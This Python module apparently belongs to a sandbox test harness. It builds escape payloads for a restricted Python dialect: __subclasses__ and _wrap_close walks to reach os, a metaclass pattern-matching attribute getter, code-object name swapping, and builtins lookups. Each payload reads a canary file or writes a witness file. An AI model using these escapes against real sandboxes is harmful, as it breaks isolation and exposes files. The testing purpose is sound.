"""The uses that an attacker makes of what it got: from a kind of power to a real effect outside.

Each sink makes `read(path)` and `write(path, text)` of the object in `power`. It is written without
a name that the dialect refuses when compiling, so that only the way to the power decides.
"""

# Attribute reads without a check lead from any object to every class, and so to `os`.
_FROM_GETTER = """
classes = power(power(power((), "__class__"), "__base__"), "__subclasses__")()
wrap = [c for c in classes if c.__name__ == "_wrap_close"][0]
names = power(power(wrap, "__init__"), "__globals__")
"""
_FROM_CLASSES = """
wrap = [c for c in power if c.__name__ == "_wrap_close"][0]
names = getattr(getattr(wrap, "__init__"), "__globals__")
"""
_OS_NAMES = """
read = lambda path: names["read"](names["open"](path, 0), 999)
write = lambda path, text: names["write"](names["open"](path, 577, 420), text.encode())
"""
_OS = """
read = lambda path: system.read(system.open(path, 0), 999)
write = lambda path, text: system.write(system.open(path, 577, 420), text.encode())
"""
_OPEN = """
def read(path):
    with opener(path) as stream: return stream.read()
def write(path, text):
    with opener(path, "w") as stream: stream.write(text)
"""
_GETTER_BY_PATTERN = """
real = power
def power(o, name):
    meta = real("Meta", (real,), {"__instancecheck__": lambda cls, other: True})
    made = meta("Made", (), {"__match_args__": (name,)})
    match o:
        case made(found): return found
"""
_GETTER_BY_CODE = """
code = power
power = lambda o, name: type(lambda: 0)(code.replace(co_names=(name,)), {})(o)
"""

SINKS = {
    "open": "opener = power" + _OPEN,
    "os": "system = power" + _OS,
    "sys": 'system = power.modules["posix"]' + _OS,
    "modules": 'system = power["posix"]' + _OS,
    "import": 'system = power("posix")' + _OS,
    "builtins": 'opener = power["open"] if isinstance(power, dict) else power.open' + _OPEN,
    "frame": 'opener = getattr(power, "f_builtins")["open"]' + _OPEN,
    "globals": 'found = power["__builtins__"]\n'
    'opener = found["open"] if isinstance(found, dict) else found.open' + _OPEN,
    "function": 'found = getattr(power, "__globals__")["__builtins__"]\n'
    'opener = found["open"] if isinstance(found, dict) else found.open' + _OPEN,
    "classes": _FROM_CLASSES + _OS_NAMES,
    "getter": _FROM_GETTER + _OS_NAMES,
    "metaclass": _GETTER_BY_PATTERN + _FROM_GETTER + _OS_NAMES,
    "code": _GETTER_BY_CODE + _FROM_GETTER + _OS_NAMES,  # the code of `lambda o: o.real`
    "eval": "system = power(\"__import__('posix')\")" + _OS,
    "text": "",  # the text of an object that no program may see; nothing to use
    "changed": "",  # True if a host's object was changed inside the process
}
_EFFECTS = {
    "information": 'print(read("@CANARY@"))',
    "integrity": 'write("@WITNESS@", "changed")',
    "persistence": 'write("@WITNESS@", "left behind")',
    "resource": 'write("@WITNESS@", "x" * 100000)',
    "denial": 'write("@WITNESS@", "denied")',
}
_WIDENED = {
    "getter": 'power = power(lambda: 0, "__code__")',
    "function": 'power = getattr(power, "__globals__")',
}


def widen(kind: str) -> str:
    """Return code that makes a power of `kind` an object that an examiner knows at sight."""
    return _WIDENED.get(kind, "")


def effect(kind: str, goal: str) -> str:
    """Return statements that turn `power` into an effect outside of the process."""
    return f"{SINKS[kind]}\n{_EFFECTS[goal]}\n"
